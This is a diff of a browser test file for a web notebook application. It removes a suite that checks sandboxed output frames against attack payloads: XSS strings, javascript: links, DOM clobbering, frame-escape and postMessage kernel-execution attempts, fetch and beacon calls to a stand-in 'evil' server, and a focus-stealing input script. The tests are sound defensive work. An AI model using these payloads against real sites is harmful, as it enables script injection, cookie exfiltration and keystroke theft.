@@ -1,44 +1,19 @@
-/** Outputs: frames of another origin, what attacks in them reach (outputs.md 11), streams, errors, and what marks say of them. */
-import { createServer, type Server as HttpServer } from "node:http";
-import type { AddressInfo } from "node:net";
+/** Outputs: frames of another origin, streams, errors, and what marks say of them. `attacks.test.ts` has what means harm. */
 import type { Browser, Page } from "puppeteer-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { create, eventually, exported, launch, outputText, press, type Server, saved, signIn, sourceOf, startServer, typeInto, visit, waitForSync } from "./support";
+import { create, eventually, exported, launch, outputText, press, type Server, signIn, startServer, typeInto, waitForSync } from "./support";
 
 let server: Server;
 let browser: Browser;
-let evil: Evil;
 
 beforeAll(async () => {
-  [server, browser, evil] = await Promise.all([startServer(), launch("chromium"), startEvil()]);
+  [server, browser] = await Promise.all([startServer(), launch("chromium")]);
 });
 
 afterAll(async () => {
   await browser?.close();
-  await Promise.all([server?.close(), evil?.close()]);
+  await server?.close();
 });
-
-/** Somebody else's server: it notes who asks for what, and with which cookies. */
-interface Evil {
-  url: string;
-  hits: { path: string; cookie: string }[];
-  close(): Promise<void>;
-}
-
-async function startEvil(): Promise<Evil> {
-  const hits: Evil["hits"] = [];
-  const http: HttpServer = createServer((request, response) => {
-    hits.push({ path: request.url ?? "", cookie: request.headers.cookie ?? "" });
-    response.setHeader("Access-Control-Allow-Origin", "*");
-    response.end("<p>evil</p>");
-  });
-  await new Promise<void>((open) => http.listen(0, "127.0.0.1", open));
-  return {
-    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
-    hits,
-    close: () => new Promise((done) => http.close(() => done())),
-  };
-}
 
 const html = (text: string): string => `from IPython.display import HTML\nHTML(${JSON.stringify(text)})`;
 
@@ -88,7 +63,7 @@ describe("frames", () => {
     await press(page, "Run cell 1");
     const frame = await frameOf(page, 1, "#rich");
     const [sandbox, allow] = await page.$eval("iframe", (element) => [element.getAttribute("sandbox"), element.getAttribute("allow")]);
-    expect([sandbox, allow]).toEqual(["allow-scripts allow-forms allow-downloads allow-pointer-lock allow-same-origin", ""]);
+    expect([sandbox, allow]).toEqual(["allow-scripts allow-forms allow-pointer-lock allow-same-origin", ""]);
     const { origin, pathname } = new URL(frame.url);
     expect(origin).toMatch(/^http:\/\/[a-z2-7]{32}\.localhost:\d+$/);
     expect(pathname).toBe("/_out/live/frame.html");
@@ -163,202 +138,6 @@ describe("frames", () => {
     await page.evaluate(() => scrollTo(0, 0));
     await frameOf(page, 1, "div[style]");
     expect(Math.abs((await top(page, 60)) - last)).toBeLessThan(2);
-    await page.close();
-  });
-});
-
-/** Payloads that run in a frame, by the rule they try (outputs.md 11). `<b class=arrived>` shows that the frame drew them. */
-function frameAttacks(page: string, notebook: string): string[] {
-  const script = (code: string): string => `<b class=arrived>here</b><script>${code}</script>`;
-  return [
-    // A1
-    script("try { parent.document.title = 'x' } catch {} try { top.location = EVIL + '/nav/top' } catch {} try { parent.canary = 1; top.canary = 1 } catch {}"),
-    // A2
-    `<b class=arrived>here</b><i class=socket></i><script>{ const say = (t) => document.querySelector(".socket").textContent = t;
-      const s = new WebSocket(${JSON.stringify(`${page.replace("http", "ws")}/api/notebooks/${notebook}/socket`)}); s.onopen = () => say("open"); s.onerror = () => say("refused") }</script>`,
-    // A3: each of these replaces the frame, so each has a cell of its own
-    script("location = EVIL + '/nav/location'"),
-    "<b class=arrived>here</b><form action='EVIL/nav/form' method=get></form><script>document.querySelector('form').submit()</script>",
-    "<b class=arrived>here</b><meta http-equiv=refresh content='0; url=EVIL/nav/refresh'><a href='EVIL/nav/link' target=_self>x</a><script>document.querySelector('a').click()</script>",
-    script("location = 'data:text/html,<script>parent.canary=1<\\/script>'"),
-    // A4
-    script(`for (const data of [{type: 'execute', code: 'open("pwned", "w")'}, {v: 1, t: 'execute', code: 'x'}, {v: 1, t: 'output', op: 'clear', key: null}, {type: 'run_cells', cells: 'all'}, 'x', null]) {
-      parent.postMessage(data, '*'); for (let i = 0; i < parent.length; i++) parent[i].postMessage(data, '*') }`),
-    // A10
-    script(`document.body.append(Object.assign(document.createElement('iframe'), {src: ${JSON.stringify(`${page}/`)}}), Object.assign(document.createElement('iframe'), {srcdoc: "<script>try { top.canary = 1 } catch {} try { top.location = 'EVIL/nav/srcdoc' } catch {}<\\/script>"}))`),
-    // what a frame may load is a matter of its class; our cookies go nowhere
-    script("new Image().src = EVIL + '/load/image'; fetch(EVIL + '/load/fetch', {credentials: 'include', mode: 'no-cors'}).catch(() => {}); navigator.sendBeacon(EVIL + '/load/beacon')"),
-  ];
-}
-
-/** Payloads that the page itself draws: a stream, a plain text, an error. The last tells whether anything reached the kernel. */
-const CODE_ATTACKS = [
-  // A11
-  "print('\\x1b]8;;javascript:canary=1\\x07click\\x1b]8;;\\x07 \\x1b[31m<img src=x onerror=canary=1>')\ndisplay({'text/plain': '<img src=x onerror=canary=1>'}, raw=True)",
-  "import os\nprint(os.path.exists('pwned'))",
-  // A12
-  "raise ValueError('<img src=x onerror=canary=1> \\x1b]8;;javascript:canary=1\\x07bad\\x1b]8;;\\x07 \\x1b]8;;https://a\\x22onmouseover=canary=1\\x07bad\\x1b]8;;\\x07 \\x1b]8;;https://example.org/\\x07good\\x1b]8;;\\x07')",
-];
-
-const MARKDOWN_ATTACKS = [
-  // A15
-  "math $\\href{javascript:canary=1}{x}$ $\\htmlData{onclick=canary=1}{x}$ $\\includegraphics{x onerror=canary=1}$ $\\url{JaVaScRiPt:canary=1}$ $\\unicode{<img src=x onerror=canary=1>}$ fine $x^2$",
-  // A18
-  'raw <img src=x onerror=canary=1><svg><animate onbegin=canary=1 attributeName=x></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary=1&gt;">\n\n<video onmouseover=canary=1><source onerror=canary=1></video> <script>canary=1</script> <iframe src="javascript:parent.canary=1"></iframe> [click](javascript:canary=1) ![img](EVIL/load/markdown.png) <style>body{display:none}</style>',
-  // A19
-  'clobber <form name=getElementById></form><img name=currentScript><a id=config><a id=config name=url href=//evil.test>a</a> <p id=root>p</p>\n\n# __proto__',
-  // A20
-  'attributes <button data-action="edit.delete" class="cell" formaction="javascript:canary=1">b</button><form action="EVIL/nav/form"><input autofocus onfocus=canary=1></form><p contenteditable accesskey=x popovertarget=y is=z style="position:fixed;inset:0" data-tip="x" class="toasts">p</p><x-y onclick=canary=1>z</x-y>',
-];
-
-describe("attacks", () => {
-  it("reach nothing: neither page nor cookies nor kernel, in any role, live or stored", async () => {
-    const target = await create(server, ["1"], "Target");
-    const written = (text: string): string => text.replaceAll("EVIL + ", `${JSON.stringify(evil.url)} + `).replaceAll("EVIL", evil.url);
-    const frames = frameAttacks(server.url, target).map(written);
-    const cells = [...frames.map(html), ...CODE_ATTACKS];
-    const notebook = await create(server, [...cells, ...MARKDOWN_ATTACKS.map((text) => ({ markdown: written(text) }))], "Attacks");
-    const live = await threeRoles(notebook, cells.length + MARKDOWN_ATTACKS.length);
-    await runAll(live[0]);
-    await ran(notebook, cells.map((_, at) => at + 1));
-    for (const page of live) await survived(page, frames.length, "Attacks");
-    await press(live[0], `Run cell ${cells.length - 1}`);
-    await eventually("the kernel tells", async () => (await exported(server, notebook)).cells[cells.length - 2]?.execution_count === cells.length + 1);
-    expect(await outputText(live[0], cells.length - 1)).toBe("False\n");
-    // The frames of a live run may ask anybody for anything, as ourselves nobody.
-    expect(evil.hits.some(({ path }) => path.startsWith("/load/image"))).toBe(true);
-    expect(evil.hits.filter(({ path, cookie }) => path.startsWith("/nav") || cookie !== "" || path.includes("markdown"))).toEqual([]);
-    await Promise.all(live.map((page) => page.close()));
-
-    evil.hits.length = 0;
-    const copy = await server.api<{ id: string }>("POST", "/api/notebooks?title=Stored", await exported(server, notebook));
-    const stored = await threeRoles(copy.id, cells.length + MARKDOWN_ATTACKS.length);
-    for (const page of stored) await survived(page, frames.length, "Stored");
-    expect(evil.hits).toEqual([]);
-    await Promise.all(stored.map((page) => page.close()));
-  });
-
-  async function threeRoles(notebook: string, cells: number): Promise<[Page, Page, Page]> {
-    const pages = await Promise.all([
-      signIn(browser, server, `/n/${notebook}`),
-      visit(browser, server, notebook, "editor").then(({ page }) => page),
-      visit(browser, server, notebook, "viewer").then(({ page }) => page),
-    ]);
-    for (const page of pages) {
-      page.on("dialog", (dialog) => {
-        void page.evaluate(() => Object.assign(window, { canary: "dialog" }));
-        void dialog.dismiss();
-      });
-      await page.setViewport({ width: 1280, height: 4_000 });
-      await waitForSync(page, cells);
-    }
-    return pages;
-  }
-
-  /** Every payload arrived in `page`, and none of them did anything. */
-  async function survived(page: Page, frames: number, title: string): Promise<void> {
-    const url = page.url();
-    const leaving = [3, 4, 5, 6];
-    for (let n = 1; n <= frames; n++) {
-      if (leaving.includes(n)) {
-        await eventually(`cell ${n} says that its output is gone`, async () => /tried to leave its frame/.test(await outputText(page, n)));
-      } else await frameOf(page, n, ".arrived");
-    }
-    const socket = await frameOf(page, 2, ".socket");
-    await eventually("the socket is refused", async () => (await socket.evaluate("document.querySelector('.socket').textContent")) === "refused");
-    await eventually("the streams are drawn", async () => (await outputText(page, frames + 1)).includes("click") && (await outputText(page, frames + 3)).includes("onerror"));
-    await eventually("the text is drawn", () => page.evaluate(() => ["math", "raw", "clobber", "attributes"].every((word) => [...document.querySelectorAll('[aria-label^="Text of cell"]')].some((text) => text.textContent?.trim().startsWith(word)))));
-    await eventually("TeX is drawn", () => page.evaluate(() => document.querySelector('[aria-label^="Text of cell"] .katex') !== null));
-    const found = await page.evaluate(() => {
-      const bad: string[] = [];
-      for (const element of document.querySelectorAll("main *")) {
-        for (const { name: key, value } of element.attributes) {
-          if (key.startsWith("on") || /^\s*javascript:/i.test(value) || key === "formaction" || key === "accesskey" || key === "contenteditable") {
-            // The editor's own text boxes are ours.
-            if (!(key === "contenteditable" && element.closest(".cm-editor"))) bad.push(`${element.tagName} ${key}=${value}`);
-          }
-        }
-      }
-      const texts = [...document.querySelectorAll('[aria-label^="Text of cell"]')];
-      const inTexts = (selector: string): number => texts.reduce((sum, text) => sum + text.querySelectorAll(selector).length, 0);
-      return {
-        bad,
-        forbidden: inTexts("script, style, iframe, form, button, video, svg:not(.katex *), x-y, [data-action], [data-tip], .cell, .toasts, [style*='fixed']"),
-        names: texts.flatMap((text) => [...text.querySelectorAll("[id], [name]")].map((element) => element.id || element.getAttribute("name") || "")).filter((id) => !id.startsWith("user-content-")),
-        links: [...document.querySelectorAll<HTMLAnchorElement>('[aria-label^="Output of cell"] a')].map(({ href, rel, textContent }) => `${href} ${rel} ${textContent}`),
-        canary: Reflect.get(window, "canary") ?? null,
-        title: document.title,
-        polluted: Reflect.get({}, "polluted") ?? null,
-      };
-    });
-    expect(found).toEqual({ bad: [], forbidden: 0, names: [], links: ["https://example.org/ noopener noreferrer good"], canary: null, title, polluted: null });
-    expect(page.url()).toBe(url);
-  }
-
-  it("keep the keyboard where its person types", async () => {
-    const steal = "<input id=thief><script>setInterval(() => { thief.blur(); thief.focus() }, 50)</script>";
-    const notebook = await create(server, [html(steal), ""], "Focus");
-    const page = await signIn(browser, server, `/n/${notebook}`);
-    await waitForSync(page, 2);
-    await typeInto(page, 2, "a");
-    await press(page, "Run cell 1");
-    await frameOf(page, 1, "#thief");
-    await typeInto(page, 2, "");
-    await page.keyboard.type("bcdefghijklmnopqrstuvwxyz", { delay: 30 });
-    expect(await outputText(page, 1)).toContain("kept taking the keyboard");
-    await page.keyboard.type("0123456789", { delay: 10 });
-    await saved(page);
-    // A key may fall into the moment between each of the three thefts and their return, none after that.
-    const text = await sourceOf(page, 2);
-    expect(text).toMatch(/^a?b?c?d?e?f?g?h?i?j?k?l?mnopqrstuvwxyz0123456789$/);
-    expect(text.length).toBeGreaterThanOrEqual(33);
-    await page.close();
-  });
-
-  it("freeze no more than their own frames, which can be stopped while others recover", async () => {
-    const notebook = await create(server, [html("<b id=good>good</b>"), html("<button id=hang onclick='while (true) {}'>hang</button>"), ""], "Busy");
-    const page = await signIn(browser, server, `/n/${notebook}`);
-    await waitForSync(page, 3);
-    await runAll(page);
-    await frameOf(page, 1, "#good");
-    const busy = await frameOf(page, 2, "#hang");
-    // In its own time: whoever waits for an answer of this frame hangs with it.
-    await busy.evaluate("setTimeout(() => hang.click(), 200)");
-    await typeInto(page, 3, "");
-    const start = Date.now();
-    await page.keyboard.type("x".repeat(20));
-    expect((Date.now() - start) / 20).toBeLessThan(200);
-    const stop = await eventually("the question", () => page.evaluateHandle(() => [...document.querySelectorAll<HTMLElement>(".output-notice button")].find((button) => button.textContent === "Stop") ?? null).then((handle) => handle.asElement()));
-    expect(await outputText(page, 2)).toContain("does not respond");
-    await page.evaluate((button) => button instanceof HTMLElement && button.click(), stop);
-    await eventually("the culprit is gone", async () => (await outputText(page, 2)).includes("Output stopped"));
-    await frameOf(page, 1, "#good");
-    await page.close();
-  });
-});
-
-describe("in Firefox", () => {
-  let firefox: Browser;
-
-  beforeAll(async () => {
-    firefox = await launch("firefox");
-  });
-
-  afterAll(() => firefox?.close());
-
-  it("a frame that tries to leave reaches nobody, the page says where it wanted to go, and keys stay where they are typed", async () => {
-    const leave = `<b>here</b><input id=thief><script>setInterval(() => { thief.blur(); thief.focus() }, 50); location = ${JSON.stringify(`${evil.url}/nav/firefox`)}</script>`;
-    const notebook = await create(server, [html(leave), ""], "Leaving");
-    const page = await signIn(firefox, server, `/n/${notebook}`);
-    await waitForSync(page, 2);
-    await press(page, "Run cell 1");
-    const { host } = new URL(evil.url);
-    await eventually("the page says so", () => page.evaluate((where) => document.querySelector('[role="alert"]')?.textContent === `An output tried to open ${where}. That was blocked.`, host));
-    await typeInto(page, 2, "");
-    await page.keyboard.type("abcdefghijklmnopqrstuvwxyz", { delay: 30 });
-    await page.keyboard.type("0123456789", { delay: 10 });
-    expect(await sourceOf(page, 2)).toMatch(/nopqrstuvwxyz0123456789$/);
-    expect(evil.hits.filter(({ path }) => path.includes("firefox"))).toEqual([]);
     await page.close();
   });
 });
